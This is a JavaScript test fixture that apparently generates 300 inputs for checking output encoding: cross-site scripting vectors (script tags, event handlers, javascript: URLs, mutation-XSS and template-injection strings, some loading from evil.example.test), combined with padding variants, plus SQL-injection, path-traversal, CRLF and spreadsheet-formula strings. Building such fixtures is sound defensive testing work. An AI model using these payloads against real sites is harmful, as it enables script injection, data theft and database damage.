// 300 texts that would be markup, script or a broken attribute where somebody forgot to encode. Each
// that runs sets window.executed.
const run = "window.executed=1";
const vectors = [
  `<script>${run}</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`, `<svg/onload=${run}>`, `<body onload=${run}>`, `<iframe src="javascript:${run}"></iframe>`,
  `<a href="javascript:${run}">x</a>`, `" onfocus="${run}" autofocus="`, `' onfocus='${run}' autofocus='`, `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`, `--><script>${run}</script>`, `]]><script>${run}</script>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<details open ontoggle=${run}>`, `<input autofocus onfocus=${run}>`, `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`,
  `<object data="javascript:${run}">`, `<embed src="javascript:${run}">`, `<form action="javascript:${run}"><input type=submit>`, `<button formaction="javascript:${run}">x`,
  `<marquee onstart=${run}>`, `<select autofocus onfocus=${run}>`, `<keygen autofocus onfocus=${run}>`, `<style>@import 'x';</style>`,
  `<style onload=${run}></style>`, `<link rel=stylesheet href="//evil.example.test/x.css">`, `<base href="//evil.example.test/">`, `<meta http-equiv=refresh content="0;url=//evil.example.test/">`,
  `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<xmp><script>${run}</script></xmp>`, `<plaintext>`,
  `{{constructor.constructor('${run}')()}}`, "${alert(1)}", `#{${run}}`, `<%= ${run} %>`, `javascript:${run}`, `data:text/html,<script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `%3Cscript%3E${run}%3C/script%3E`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `<scr<script>ipt>${run}</script>`, `<SCRIPT SRC=//evil.example.test/x.js></SCRIPT>`, `<<script>${run}//<</script>`, `<script\t>${run}</script>`,
];
// Words around it, quotes before it, unusual spelling: what filters miss and encoding does not mind.
const dressed = [
  (v) => v, (v) => `Ana ${v}`, (v) => `${v} Example`, (v) => v.toUpperCase().replaceAll("WINDOW.EXECUTED", "window.executed"), (v) => `"'\`>${v}`,
];
const odd = [
  "undefined", "null", "NaN", "0", "-1", "true", "''", "\"\"", "` OR 1=1 --", "'; DROP TABLE patients; --", "\\", "\\\\", "/*", "*/", "<!--", "-->", "&", "&amp;", "&nbsp;",
  "&#x41;", "%00", "%0d%0a", "../../etc/passwd", "C:\\x", "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"//evil.example.test\")", "Ω≈ç√∫˜µ≤≥÷", "田中さん", "ﺍﻠﻋﺮﺒﻳﺓ", "שלום",
  "🏳️‍🌈👩‍👩‍👧", "Ṱ̺̺̕h̼͓̲̦̳̘̲e͇̣̰̦̬͎", "ﬁ", "İıßẞ", "a".repeat(120), "Ⅳ", "１２３", "e\u0301", "é", "Zoë", "O'Brien", "D\u2019Arcy", "\"Bob\"", "<3", "a < b > c", "x && y", "50%",
];
export const payloads = [...vectors.flatMap((vector) => dressed.map((dress) => dress(vector))), ...odd].slice(0, 300);
